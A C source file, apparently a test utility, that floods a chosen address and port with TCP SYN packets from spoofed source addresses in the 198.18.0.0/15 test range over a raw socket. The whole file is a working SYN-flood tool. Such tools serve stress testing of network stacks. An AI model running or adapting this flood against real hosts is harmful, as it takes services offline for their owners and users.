// SPDX-License-Identifier: GPL-2.0
/*
 * A flood of SYNs from addresses that do not exist.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

struct syn_packet {
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static int stop;

static void fail(const char *what)
{
	fprintf(stderr, "synflood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void on_signal(int sig)
{
	(void)sig;
	__atomic_store_n(&stop, 1, __ATOMIC_RELAXED);
}

static uint64_t random_next(void)
{
	static uint64_t x = 0x9e3779b97f4a7c15ull;

	x ^= x << 13;
	x ^= x >> 7;
	x ^= x << 17;
	return x;
}

static uint32_t sum16(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;
	size_t i;

	for (i = 0; i + 1 < len; i += 2)
		sum += p[i] << 8 | p[i + 1];
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum);
}

static void make_syn(struct syn_packet *p, const struct sockaddr_in *to)
{
	uint32_t pseudo;

	*p = (struct syn_packet){
		.ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP,
			.tot_len = htons(sizeof(*p)), .daddr = to->sin_addr.s_addr },
		.tcp = { .doff = 5, .syn = 1, .window = htons(65535), .dest = to->sin_port },
	};
	/* 198.18.0.0/15 is for tests (RFC 2544). */
	p->ip.saddr = htonl(0xc6120000u | (random_next() & 0x1ffff));
	p->tcp.source = htons(1024 + random_next() % 60000);
	p->tcp.seq = random_next();
	pseudo = sum16(&p->ip.saddr, 8, 0) + IPPROTO_TCP + sizeof(p->tcp);
	p->tcp.check = fold(sum16(&p->tcp, sizeof(p->tcp), pseudo));
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct syn_packet p;
	uint64_t sent = 0;
	time_t end;
	int fd;

	if (argc != 4 || !inet_aton(argv[1], &to.sin_addr)) {
		fprintf(stderr, "usage: synflood ADDR PORT SECONDS\n");
		return 2;
	}
	to.sin_port = htons(atoi(argv[2]));
	end = time(NULL) + atoi(argv[3]);
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0)
		fail("raw socket");
	for (; !__atomic_load_n(&stop, __ATOMIC_RELAXED) && time(NULL) < end; sent++) {
		make_syn(&p, &to);
		if (sendto(fd, &p, sizeof(p), 0, (void *)&to, sizeof(to)) < 0 && errno != ENOBUFS)
			fail("sendto");
	}
	printf("{\"packets\":%llu}\n", (unsigned long long)sent);
	return 0;
}
